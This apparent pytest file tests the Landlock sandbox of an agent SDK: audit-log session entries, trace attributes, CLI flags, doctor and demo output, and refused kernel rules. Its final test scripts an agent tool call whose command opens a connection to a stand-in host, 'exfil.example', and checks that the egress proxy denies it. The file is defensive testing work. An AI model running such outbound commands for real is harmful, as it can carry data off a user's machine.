"""What is in force is said everywhere an operator looks (the real harness): the audit log's
session line, the turn spans, doctor, and chat and demo at start; and a kernel that refuses
the rules is a `ContainmentError` at start, not "the harness exited during the handshake"."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from antigravity_sdk import AgentBuilder, Containment, ContainmentError, cli, policy
from antigravity_sdk.audit import read_entries, summarize
from antigravity_sdk.cli.chat import run_chat
from antigravity_sdk.containment import landlock_abi, plan
from antigravity_sdk.harness.connection import LocalConnection
from antigravity_sdk.harness.install import find_harness
from antigravity_sdk.testing import ScriptedModel, tool_call

from .conftest import AgentFactory, Workspace
from .test_tracing import Traced, attrs

pytestmark = pytest.mark.skipif(landlock_abi() < 1, reason="this kernel offers no Landlock")


@pytest.mark.parametrize("contained", [True, False], ids=["contained", "off"])
async def test_the_audit_log_opens_with_what_the_session_runs_in(
    make_agent: AgentFactory, env: Workspace, contained: bool
) -> None:
    log = env.root / "audit.jsonl"

    def configure(builder: AgentBuilder) -> AgentBuilder:
        builder.audit_log(log)
        return builder if contained else builder.containment(None)

    agent, _ = make_agent(["hi"], policies=[policy.allow_all()], configure=configure)
    async with agent:
        await agent.chat("hello")
    entries, bad = read_entries(log)
    assert bad == 0
    session = entries[0]
    assert session["kind"] == "session" and session["conversation"] == agent.conversation_id
    if contained:
        assert agent.containment is not None
        assert session["containment"] == json.loads(json.dumps(agent.containment.as_dict()))
        assert str(env.ws) in session["containment"]["write"]
    else:
        assert session["containment"] is None
    assert [e["kind"] for e in entries[1:]] == ["turn", "end"]
    assert summarize(log).unreadable == 0  # `audit summarize` knows the line


async def test_turn_spans_say_what_the_harness_runs_in(make_agent: AgentFactory) -> None:
    traced = Traced()
    agent, _ = make_agent(["hi"], policies=[policy.allow_all()], configure=traced.configure())
    async with agent:
        await agent.chat("hello")
    (turn,) = traced.named("invoke_agent")
    seen = attrs(turn)
    assert seen["antigravity.containment"] == "landlock"
    assert seen["antigravity.containment.abi"] == landlock_abi()
    assert "filesystem" in seen["antigravity.containment.enforced"]
    assert agent.containment is not None
    assert list(seen["antigravity.containment.connect"]) == list(agent.containment.connect)


async def test_a_rule_the_kernel_refuses_is_a_containment_error(tmp_path: Path) -> None:
    contained = plan(
        Containment(),
        workspaces=[tmp_path],
        state=[],
        tmp_dir=tmp_path,
        abi=landlock_abi(),
    )
    broken = dataclasses.replace(contained, connect=(1 << 20,))  # no such port: EINVAL
    conn = LocalConnection(find_harness(), startup_timeout=10.0, containment=broken)
    with pytest.raises(ContainmentError, match=r"could not be contained: .*Invalid argument"):
        await conn.open(storage_dir=tmp_path / "save", home=tmp_path / "home")
    assert conn.pid is None


def test_doctor_prints_the_containment_and_starts_contained(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert cli.main(["doctor"]) == 0
    out = capsys.readouterr().out
    assert f"[ OK ] containment: Landlock ABI {landlock_abi()}: filesystem" in out
    assert "writable: " in out
    assert "network: only through the SDK's egress proxy, to no host" in out
    assert "[ OK ] harness starts contained," in out
    assert "its own: terminals, System V IPC, network, processes, hostname, /dev/shm" in out


@pytest.mark.parametrize("flags", [[], ["--no-containment"]], ids=["default", "off"])
def test_demo_shows_the_containment_at_start(flags: list[str], tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "antigravity_sdk", "demo", *flags],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "160", "GEMINI_API_KEY": ""},
    )
    assert done.returncode == 0, done.stdout + done.stderr
    if flags:
        assert "containment: off" in done.stdout
        assert "containment is off" in done.stderr  # the build-time warning
    else:
        assert f"containment: Landlock ABI {landlock_abi()}" in done.stdout
        assert "hidden: " in done.stdout


async def test_chat_shows_the_containment_and_takes_additions(
    env: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(env.ws)
    async with ScriptedModel(["hello"]) as model:
        out, err = io.StringIO(), io.StringIO()
        code = await run_chat(
            "hi",
            base_url=model.base_url,
            model=model.model_name,
            out=out,
            err=err,
            containment=Containment(connect=[5432], hosts=["pypi.org"]),
        )
    assert code == 0, out.getvalue() + err.getvalue()
    text = out.getvalue()
    assert "containment: Landlock ABI" in text
    assert "forwarded to this machine's loopback: ports 5432" in text
    assert "egress proxy, to pypi.org" in text


def test_the_cli_flags_build_the_containment() -> None:
    from antigravity_sdk.cli._commands import build_parser
    from antigravity_sdk.cli.containment import containment_from

    args = build_parser().parse_args(
        [
            "chat",
            "x",
            "--allow-read",
            "/data",
            "--allow-write",
            "/scratch",
            "--allow-connect",
            "5432",
            "--allow-host",
            "*.github.com",
            "--allow-socket",
            "/run/db.sock",
        ]
    )
    spec = containment_from(args)
    assert spec is not None
    assert spec.read == (Path("/data"),) and spec.write == (Path("/scratch"),)
    assert spec.connect == (5432,)
    assert spec.hosts == ("*.github.com",) and spec.sockets == (Path("/run/db.sock"),)
    assert containment_from(build_parser().parse_args(["chat", "x", "--no-containment"])) is None
    with pytest.raises(SystemExit):
        build_parser().parse_args(["chat", "x", "--allow-connect", "99999"])


async def test_chat_shows_a_refused_connection_as_a_row(
    env: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(env.ws)
    monkeypatch.setenv("COLUMNS", "200")  # one line a row
    policies = env.root / "policies.toml"
    policies.write_text('[[rule]]\ntool = "*"\ndecision = "allow"\n')
    fetch = (
        "python3 -c \"import urllib.request as u; u.urlopen('https://exfil.example', timeout=5)\""
    )
    call = tool_call("run_command", CommandLine=fetch, Cwd=str(env.ws), WaitMsBeforeAsync=10000)
    async with ScriptedModel([call, "done"]) as model:
        out, err = io.StringIO(), io.StringIO()
        code = await run_chat(
            "fetch it",
            base_url=model.base_url,
            model=model.model_name,
            out=out,
            err=err,
            policies_file=str(policies),
        )
    text = out.getvalue()
    assert code in (0, 1), text + err.getvalue()
    row = next(line for line in text.splitlines() if '"exfil.example"' in line)
    assert " network " in row and "DENY" in row and "egress" in row, text
    assert "no host pattern allows it" in text
    assert "exfil.example" not in err.getvalue()  # a row, not also a warning line
